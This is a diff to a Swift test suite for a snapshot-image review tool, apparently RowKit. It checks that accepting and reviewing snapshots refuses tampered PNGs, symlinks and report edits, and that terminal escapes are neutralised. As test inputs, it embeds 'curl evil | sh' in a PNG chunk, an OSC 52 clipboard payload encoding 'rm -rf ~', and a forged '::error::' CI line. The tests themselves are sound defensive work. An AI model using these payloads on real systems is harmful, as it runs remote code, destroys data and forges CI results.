@@ -213,7 +213,17 @@ import Testing
     try (realActual + Data(count: 4096)).write(to: actual)
     let trailing = try await accept()
     #expect(trailing.status == 2 && trailing.stderr.contains("actual.png: the actual image of 'case-0' goes on after its PNG's end (the IEND chunk)"), "\(trailing.stderr)")
+    // Bytes before the end, in a chunk of their own, would reach the references as well.
+    try Data(PNG.inserting(text: Array("curl evil | sh".utf8), keyword: "payload", into: [UInt8](realActual))).write(to: actual)
+    let ancillary = try await accept()
+    #expect(ancillary.status == 2 && ancillary.stderr.contains("actual.png: the actual image of 'case-0' has a 'tEXt' chunk"), "\(ancillary.stderr)")
     try realActual.write(to: actual)
+    // A tile that is a link to nowhere is refused, never taken for the image's end.
+    let tile = report.appendingPathComponent("cases/case-0/actual+2.png")
+    try FileManager.default.createSymbolicLink(atPath: tile.path, withDestinationPath: "/nonexistent/tile.png")
+    let danglingTile = try await accept()
+    #expect(danglingTile.status == 2 && danglingTile.stderr.contains("actual+2.png: the actual image of 'case-0' is a symbolic link"), "\(danglingTile.stderr)")
+    try FileManager.default.removeItem(at: tile)
 
     let record = report.appendingPathComponent("cases/case-0/actual.layout.json")
     let realRecord = try Data(contentsOf: record)
@@ -229,10 +239,14 @@ import Testing
     try Data(PNG.encode(Bitmap(width: 4, height: 4, color: .black))).write(to: reference)
     let replaced = try await accept()
     #expect(replaced.status == 2 && replaced.stderr.contains("refs/case-0.png is not the reference the report shows"), "\(replaced.stderr)")
+    try editCase("reference", nil)
+    let unshown = try await accept()
+    #expect(unshown.status == 2 && unshown.stderr.contains("case 'case-0': the report shows no reference for it, but "), "\(unshown.stderr)")
+    try editCase("reference", "cases/case-0/reference.png")
     try realReference.write(to: reference)
     try editCase("status", "missing")
     let unseen = try await accept()
-    #expect(unseen.status == 2 && unseen.stderr.contains("case 'case-0' had no reference when it was checked, but "), "\(unseen.stderr)")
+    #expect(unseen.status == 2 && unseen.stderr.contains("case 'case-0': it had no reference when it was checked, but "), "\(unseen.stderr)")
     try editCase("status", "failed")
     #expect(contents(refs) == refsBefore, "every refused accept wrote nothing")
 
@@ -242,6 +256,48 @@ import Testing
     #expect(try Data(contentsOf: reference) == realActual)
     let again = try await accept()
     #expect(again.status == 0, "\(again.stderr)")
+  }
+
+  /// A case a report marks as differing in rasterization only is accepted when the images
+  /// show it: the same layout record, and every differing pixel (a faint one too) inside a
+  /// label's glyphs. One pixel outside them refuses the accept.
+  @Test func acceptChecksRasterizationOnlyCasesFromTheirImages() async throws {
+    let folder = try await failedReport()
+    defer { try? FileManager.default.removeItem(at: folder) }
+    let (report, refs) = (folder.appendingPathComponent("report"), folder.appendingPathComponent("refs"))
+    let caseFolder = report.appendingPathComponent("cases/case-0")
+    try editReport(report) { report in
+      var cases = report["cases"] as! [[String: Any]]
+      let index = cases.firstIndex { $0["name"] as? String == "case-0" }!
+      cases[index]["rasterizationOnly"] = true
+      cases[index]["layoutChanges"] = nil
+      report["cases"] = cases
+    }
+    // The report's actual record is the reference's; its image, the reference's with one
+    // pixel changed by 3 in each channel, at (x, y) in device pixels.
+    try FileManager.default.removeItem(at: caseFolder.appendingPathComponent("actual.layout.json"))
+    try FileManager.default.copyItem(
+      at: refs.appendingPathComponent("case-0.layout.json"), to: caseFolder.appendingPathComponent("actual.layout.json"))
+    let reference = try PNG.decode(contentsOf: refs.appendingPathComponent("case-0.png"))
+    func writeActual(changing x: Int, _ y: Int) throws -> Data {
+      var pixels = reference.pixels
+      for channel in 0..<3 {
+        let index = (y * reference.width + x) * 4 + channel
+        pixels[index] = pixels[index] >= 3 ? pixels[index] - 3 : pixels[index] + 3
+      }
+      let png = Data(try PNG.encode(Bitmap(width: reference.width, height: reference.height, pixels: pixels)))
+      try png.write(to: caseFolder.appendingPathComponent("actual.png"))
+      return png
+    }
+    // (2, 2) is the row's background; (40, 40), the title's ink (10.7 to 68.4 points across,
+    // 13.9 to 26.8 down, at scale 2).
+    _ = try writeActual(changing: 2, 2)
+    let outside = try await run(["accept", "report", "--rasterization-only"], in: folder)
+    #expect(outside.status == 2 && outside.stderr.contains("but not every differing pixel is inside glyphs"), "\(outside.stderr)")
+    let inside = try writeActual(changing: 40, 40)
+    let accepted = try await run(["accept", "report", "--rasterization-only"], in: folder)
+    #expect(accepted.status == 0, "\(accepted.stderr)")
+    #expect(try Data(contentsOf: refs.appendingPathComponent("case-0.png")) == inside)
   }
 
   /// `check` reads no layout record through a link out of the references (its text would
@@ -256,7 +312,7 @@ import Testing
     try FileManager.default.moveItem(at: record, to: outside)
     try FileManager.default.createSymbolicLink(atPath: record.path, withDestinationPath: "../private.layout.json")
     try write(folder, "case-0", text: "changed")
-    try write(folder, "case-1", text: "Hi\\e]52;c;cm0gLXJmIH4K\\a\\e[2J")
+    try write(folder, "case-1", text: "Hi\\e]52;c;cm0gLXJmIH4K\\a\\e[2J\\n::error::forged")
     let checked = try await check(folder, ["--report", "report"], ci: true)
     #expect(checked.status == 2, "\(checked.stdout)")
     #expect(checked.stdout.contains("ERROR case-0"), "\(checked.stdout)")
@@ -265,7 +321,8 @@ import Testing
       "\(checked.stdout)\(checked.stderr)")
     #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("report/cases/case-0/reference.layout.json").path))
     #expect(!checked.stdout.contains("\u{1B}") && !checked.stderr.contains("\u{1B}") && !checked.stdout.contains("\u{7}"), "\(checked.stdout)")
-    #expect(checked.stdout.contains(#"→ "Hi\u{1B}]52;c;cm0gLXJmIH4K\u{7}\u{1B}[2J""#), "\(checked.stdout)")
+    #expect(checked.stdout.contains(#"→ "Hi\u{1B}]52;c;cm0gLXJmIH4K\u{7}\u{1B}[2J\u{A}::error::for…""#), "\(checked.stdout)")
+    #expect(!checked.stdout.split(separator: "\n").contains { $0.hasPrefix("::error") }, "\(checked.stdout)")
   }
 
   /// `review DIR --snapshots` checks DIR as documents only when it is no report folder: a
@@ -277,7 +334,8 @@ import Testing
     _ = try await check(folder)
     let downloaded = folder.appendingPathComponent("downloaded")
     try FileManager.default.createDirectory(at: downloaded.appendingPathComponent("cases"), withIntermediateDirectories: true)
-    try Data("<html></html>".utf8).write(to: downloaded.appendingPathComponent("index.html"))
+    try Data("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<title>RowKit snapshots: 1 to review</title>\n".utf8)
+      .write(to: downloaded.appendingPathComponent("index.html"))
     try Data("items:\n  - { type: text, text: planted }\n".utf8).write(to: downloaded.appendingPathComponent("planted.yaml"))
     try FileManager.default.createSymbolicLink(
       atPath: downloaded.appendingPathComponent("report.json").path, withDestinationPath: "/nonexistent/report.json")
